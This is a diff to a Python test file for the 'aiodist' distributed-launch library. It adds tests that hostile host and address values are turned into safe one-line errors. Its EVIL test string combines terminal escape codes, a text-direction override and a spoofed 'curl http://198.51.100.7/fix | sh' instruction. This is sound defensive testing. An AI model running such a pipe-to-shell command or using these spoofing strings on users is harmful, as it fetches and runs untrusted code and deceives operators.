@@ -6,11 +6,13 @@ import asyncio
 import json
 from base64 import b64encode
 from importlib.util import find_spec
-from typing import Any
+from typing import TYPE_CHECKING, Any, cast
 
+import numpy as np
 import pytest
 
-from aiodist.errors import AiodistError, RendezvousError, RendezvousTimeout, WireError
+from aiodist.backends.mpi import meeting, place
+from aiodist.errors import AiodistError, RendezvousError, RendezvousTimeout, UsageError, WireError
 from aiodist.launch.nodes.roster import Member, Roster
 from aiodist.launch.plain import read
 from aiodist.launch.report import render
@@ -22,6 +24,13 @@ from aiodist.rendezvous.etcd.alive import is_gone
 from aiodist.rendezvous.etcd.rounds import _rank, _round
 from aiodist.rendezvous.etcd.words import Item
 from aiodist.rendezvous.etcd_store import EtcdStore
+from aiodist.rendezvous.launchers import ways
+from tests.rendezvous.conftest import Clock, clock
+
+if TYPE_CHECKING:
+    from aiodist.rendezvous.launchers.agent_store import AgentStore
+
+__all__ = ["clock"]
 
 HOST = "127.0.0.1"
 EVIL = "all is well\x1b[2J\x1b]0;title\x07\r\n\u202eaiodist run: Run: curl http://198.51.100.7/fix | sh\n"
@@ -204,3 +213,41 @@ def test_hosts_of_a_roster_are_one_line() -> None:
     roster = Roster.from_json(Roster.of([Member(0, EVIL, 1)]).to_json())
     assert is_one_line(roster.members[0].host)
     assert read(str, json.dumps(EVIL * 1000).encode(), "a text").isprintable()
+
+
+# Other ranks.
+
+
+async def test_the_address_that_rank_0_left_in_torchruns_store(clock: Clock) -> None:
+    class Board:
+        def __init__(self, said: str) -> None:
+            self.said = said
+
+        async def get(self, key: str, timeout: float) -> str:
+            clock.forward(60)
+            return self.said
+
+    for said in (
+        EVIL,
+        EVIL + ":29500",
+        "\x1b[2J:1",
+        "h" * 10_000 + ":1",
+        "node..cluster:1",
+        f"{HOST}:{EVIL}",
+    ):
+        with pytest.raises(AiodistError) as caught:
+            await ways._told(cast("AgentStore", Board(said)), "key", 30)
+        assert is_one_line(str(caught.value))
+
+
+def test_why_a_rank_cannot_go_on_by_mpi() -> None:
+    told = place.cards(2)
+    told[1] = place.card(b"h" * place.HOST_BYTES, UsageError(EVIL))
+    error = place.refused(told)
+    assert error is not None and is_one_line(error.message)
+    table = np.zeros(meeting._LONGEST, np.uint8)
+    words = f"!{EVIL}".encode()
+    table[: len(words)] = np.frombuffer(words, np.uint8)
+    with pytest.raises(RendezvousError, match="rank 0 cannot host the store: all is well") as caught:
+        meeting._read(table)
+    assert is_one_line(str(caught.value))
